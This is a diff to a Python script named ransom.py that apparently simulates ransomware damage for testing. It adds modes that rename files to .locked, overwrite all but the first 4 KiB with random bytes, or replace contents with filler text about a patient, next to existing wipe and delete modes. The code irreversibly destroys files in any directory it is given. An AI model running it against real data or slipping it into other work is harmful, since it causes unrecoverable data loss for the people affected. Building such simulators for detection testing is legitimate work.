@@ -3,6 +3,9 @@
   ransom.py in-place DIR [--keep-times]    each file encrypted where it is
   ransom.py locked DIR                     encrypted and renamed: report.pdf.locked
   ransom.py replace DIR                    a new file of a random name is written, the old one deleted
+  ransom.py rename DIR                     renamed only: report.pdf.locked
+  ransom.py header DIR                     encrypted in place but for the first 4 KiB of each file, which stay
+  ransom.py text DIR                       overwritten with plausible text of the same length
   ransom.py wipe DIR                       each file cut to nothing
   ransom.py delete DIR                     each file deleted
   --percent P                              of the files that are not encrypted yet
@@ -10,7 +13,7 @@
 import argparse, os, random, sys
 
 p = argparse.ArgumentParser(description=__doc__)
-p.add_argument("how", choices=["in-place", "locked", "replace", "wipe", "delete"])
+p.add_argument("how", choices=["in-place", "locked", "replace", "rename", "header", "text", "wipe", "delete"])
 p.add_argument("dir")
 p.add_argument("--keep-times", action="store_true")
 p.add_argument("--percent", type=float, default=100)
@@ -30,13 +33,22 @@ for name in chosen:
     if a.how == "delete":
         os.remove(name)
         continue
-    if a.how == "replace":
+    if a.how == "rename":
+        to = name + ".locked"
+        os.rename(name, to)
+    elif a.how == "replace":
         to = os.path.join(os.path.dirname(name), "%x" % rnd.getrandbits(80))
         open(to, "wb").write(rnd.randbytes(st.st_size + 512))
         os.remove(name)
     else:
         with open(name, "r+b") as f:
-            f.write(b"" if a.how == "wipe" else rnd.randbytes(st.st_size))
+            if a.how == "header":
+                f.seek(4096)
+                f.write(rnd.randbytes(max(0, st.st_size - 4096)))
+            elif a.how == "text":
+                f.write((b"The patient is well, no complaints, see again in two weeks. " * (st.st_size // 60 + 1))[:st.st_size])
+            elif a.how != "wipe":
+                f.write(rnd.randbytes(st.st_size))
             if a.how == "wipe":
                 f.truncate(0)
         if a.keep_times:
